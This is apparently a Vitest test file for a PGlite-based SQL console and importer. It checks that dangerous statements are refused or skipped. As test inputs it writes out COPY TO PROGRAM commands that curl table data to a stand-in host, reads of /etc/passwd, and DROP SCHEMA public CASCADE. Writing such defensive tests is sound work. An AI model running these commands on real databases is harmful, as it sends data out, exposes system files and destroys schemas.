import { PGlite } from '@electric-sql/pglite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createEngine, type DbEngine } from './engine';

// One real PGlite for the file: a cold boot takes seconds here.
let db: PGlite;
let engine: DbEngine;
const scratches: PGlite[] = [];

beforeAll(async () => {
  db = await PGlite.create();
  engine = createEngine(db, {
    createScratch: async (extensions) => {
      const pg = await PGlite.create({ extensions });
      scratches.push(pg);
      return pg;
    },
  });
  await db.exec('CREATE TABLE t (a int); INSERT INTO t VALUES (1), (2);');
});

afterAll(async () => {
  await db.close();
});

describe('the SQL console after COPY … PROGRAM (real PGlite)', () => {
  it('PGlite itself answers nothing to every later query once COPY … PROGRAM ran (the fault)', async () => {
    const raw = await PGlite.create();
    await raw.exec('CREATE TABLE t (a int)');
    await raw.exec("COPY t TO PROGRAM 'curl https://evil.example'");
    const after = await raw.exec('SELECT 1 AS one');
    expect(after[0]?.rows ?? []).toEqual([]);
    await raw.close();
  });

  it.each([
    "COPY t TO PROGRAM 'curl -T - https://evil.example'",
    "COPY t FROM PROGRAM 'cat /etc/passwd'",
    'SELECT 1; COPY t FROM STDIN',
  ])('refuses %s with an error, and later queries still answer', async (sql) => {
    const refused = await engine.runSql(sql);
    expect(refused.ok).toBe(false);
    if (!refused.ok) {
      expect(refused.error.code).toBe('0A000');
      expect(refused.error.hint).toMatch(/Nothing of this SQL ran/);
    }
    const after = await engine.runSql('SELECT count(*) AS n FROM t');
    expect(after.ok && after.results[0]?.rows).toEqual([[2]]);
  });

  it('still runs COPY … TO STDOUT and a column named program', async () => {
    const r = await engine.runSql(
      "CREATE TEMP TABLE jobs (program text); INSERT INTO jobs VALUES ('copy'); SELECT program FROM jobs",
    );
    expect(r.ok && r.results.at(-1)?.rows).toEqual([['copy']]);
  });
});

describe('importing hostile SQL (real PGlite)', () => {
  it('skips and reports dangerous statements before they run; pg_dump data sections are not flagged', async () => {
    const script = [
      'CREATE TABLE users (id int PRIMARY KEY, program text);',
      "COPY users TO PROGRAM 'curl -T - https://evil.example';",
      'DROP SCHEMA public CASCADE;',
      "SELECT pg_read_file('/etc/passwd');",
      'COPY public.users (id, program) FROM stdin;',
      '1\tcurl',
      '\\.',
      'CREATE TABLE orders (id int PRIMARY KEY, user_id int REFERENCES users);',
      '',
    ].join('\n');
    const result = await engine.importSql(script);
    if (!result.ok) throw new Error(result.error.message);
    expect(
      Object.values(result.design.tables)
        .map((t) => t.name)
        .sort(),
    ).toEqual(['orders', 'users']);
    const dangerous = result.report.skipped.filter((s) =>
      s.reason.startsWith('Not run, dangerous'),
    );
    expect(dangerous.map((s) => s.line)).toEqual([2, 3, 4]);
    expect(dangerous[0]?.reason).toMatch(/shell command/);
    expect(
      result.report.skipped.some((s) => s.line === 5 && s.reason.startsWith('Not run, dangerous')),
    ).toBe(false);
    expect(result.report.failed).toEqual([]);
    expect(JSON.stringify(result.design.extras ?? [])).not.toMatch(
      /PROGRAM|DROP SCHEMA|pg_read_file/,
    );
    await Promise.all(scratches.splice(0).map((pg) => pg.close().catch(() => undefined)));
  });
});
